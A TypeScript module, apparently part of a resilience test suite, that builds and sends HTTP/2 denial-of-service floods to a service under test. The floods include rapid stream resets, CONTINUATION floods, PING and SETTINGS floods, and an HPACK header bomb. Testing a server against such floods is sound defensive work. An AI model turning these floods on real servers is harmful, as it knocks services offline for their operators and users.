/** Floods of HTTP/2 frames, and how a peer sends them. */
import type { Peer } from "./attacked-service.js";
import {
  ACK,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  HEADERS,
  headersFrames,
  http2Frame,
  indexedBomb,
  PING,
  PRIORITY,
  prefaceWith,
  RESET,
  SETTINGS,
  windowUpdate,
} from "./http2-frames.js";
import { getHead } from "./http2-heads.js";

const BYTES = 8_000_000;
const acknowledged = http2Frame(SETTINGS, ACK, 0);
export const start = Buffer.concat([prefaceWith(), acknowledged]);
const health = getHead("/healthcheck");
const repeated = (frame: Buffer) => Buffer.concat(Array<Buffer>(Math.ceil(60_000 / frame.length)).fill(frame));

export interface Flood {
  /** Sent once. */
  first?: Buffer;
  /** Sent until the connection is closed, nothing is read any more, or `BYTES` were sent. */
  next(round: number): Buffer;
  reads?: boolean;
}

export const floods: [string, Flood][] = [
  ["calls that are reset at once", { next: (round) => resets(round) }],
  ["pings", { next: () => repeated(http2Frame(PING, 0, 0, Buffer.alloc(8))) }],
  ["pings without reading", { next: () => repeated(http2Frame(PING, 0, 0, Buffer.alloc(8))), reads: false }],
  ["settings", { next: () => repeated(http2Frame(SETTINGS, 0, 0)) }],
  ["settings without reading", { next: () => repeated(http2Frame(SETTINGS, 0, 0)), reads: false }],
  [
    "CONTINUATION frames without end",
    {
      first: http2Frame(HEADERS, 0, 1, health),
      next: () => http2Frame(CONTINUATION, 0, 1, Buffer.alloc(16_000, 0x82)),
    },
  ],
  [
    "empty CONTINUATION frames",
    { first: http2Frame(HEADERS, 0, 1, health), next: () => repeated(http2Frame(CONTINUATION, 0, 1)) },
  ],
  [
    "empty DATA frames",
    {
      first: http2Frame(HEADERS, END_HEADERS, 1, getHead("/json", "POST")),
      next: () => repeated(http2Frame(DATA, 0, 1)),
    },
  ],
  ["PRIORITY frames", { next: () => repeated(http2Frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 1]))) }],
  ["window updates", { next: () => repeated(windowUpdate(0, 1)) }],
  ["unknown frames", { next: () => repeated(http2Frame(0xbe, 0, 0, Buffer.alloc(20))) }],
  [
    "headers that refer 15,000 times to a header of 4 kB",
    { next: (round) => headersFrames(2 * round + 1, indexedBomb(health, 15_000)) },
  ],
];

function resets(round: number): Buffer {
  const frames = Array.from({ length: 500 }, (_, i) => {
    const stream = 2 * (500 * round + i) + 1;
    return [
      http2Frame(HEADERS, END_HEADERS | END_STREAM, stream, health),
      http2Frame(RESET, 0, stream, Buffer.alloc(4)),
    ];
  });
  return Buffer.concat(frames.flat());
}

export async function sendFlood(peer: Peer, { first, next }: Flood): Promise<Peer[]> {
  await peer.write(Buffer.concat([start, first ?? Buffer.alloc(0)]));
  for (let sent = 0, round = 0; sent < BYTES; round++) {
    const bytes = next(round);
    if (!(await peer.write(bytes))) break;
    sent += bytes.length;
  }
  return [peer];
}
